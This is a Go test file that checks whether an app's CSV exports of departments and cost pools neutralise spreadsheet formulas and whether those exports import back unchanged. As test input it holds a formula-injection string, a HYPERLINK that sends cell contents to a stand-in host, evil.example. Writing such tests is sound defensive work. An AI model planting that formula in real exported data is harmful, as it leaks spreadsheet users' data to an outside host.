package app_test

import (
	"bytes"
	"context"
	"strings"
	"testing"

	"github.com/engagehq/engage/internal/apptest"
	"github.com/engagehq/engage/internal/org"
)

// TestCSVExportsNeutraliseFormulas: a department and a cost pool named
// like a spreadsheet formula are exported as text (a leading apostrophe),
// and the exported files import back unchanged.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	const evil = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	apptest.Run(t, func(t *testing.T, e *apptest.Engage) {
		ctx := context.Background()
		if _, err := e.Org.CreateDepartment(ctx, system, org.DepartmentInput{Code: "EVIL", Name: evil}); err != nil {
			t.Fatal(err)
		}
		admin := e.SignIn(t, "admin@example.com")
		res, body := admin.Get("/admin/export/departments.csv")
		if res.StatusCode != 200 || !strings.Contains(body, `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`) ||
			strings.Contains(body, `,"=HYPERLINK`) {
			t.Fatalf("departments export = %d:\n%s", res.StatusCode, body)
		}
		if _, err := e.Org.Import(ctx, system, "departments", strings.NewReader(body)); err != nil {
			t.Fatal(err)
		}
		if d := departmentByCode(t, e, "EVIL"); d.Name != evil {
			t.Errorf("imported back as %q", d.Name)
		}

		pools := "period,category,name,amount,currency,allocation,services\n" +
			"2026-02,labour,@SUM(A1:A9),12.50,EUR,,\n" +
			"2026-02,hardware,+Racks,400,EUR,,\n"
		if _, err := e.Costs.ImportPools(ctx, system, strings.NewReader(pools)); err != nil {
			t.Fatal(err)
		}
		var out bytes.Buffer
		if err := e.Costs.ExportPools(ctx, system, "2026-02", &out); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(out.String(), ",'@SUM(A1:A9),12.5,EUR") || !strings.Contains(out.String(), ",'+Racks,400,EUR") {
			t.Fatalf("cost pools export:\n%s", out.String())
		}
		rep, err := e.Costs.ImportPools(ctx, system, strings.NewReader(out.String()))
		if err != nil || rep.Unchanged != 2 || rep.Created+rep.Updated != 0 {
			t.Errorf("the export imported back = %+v, %v; want 2 unchanged", rep, err)
		}
	})
}
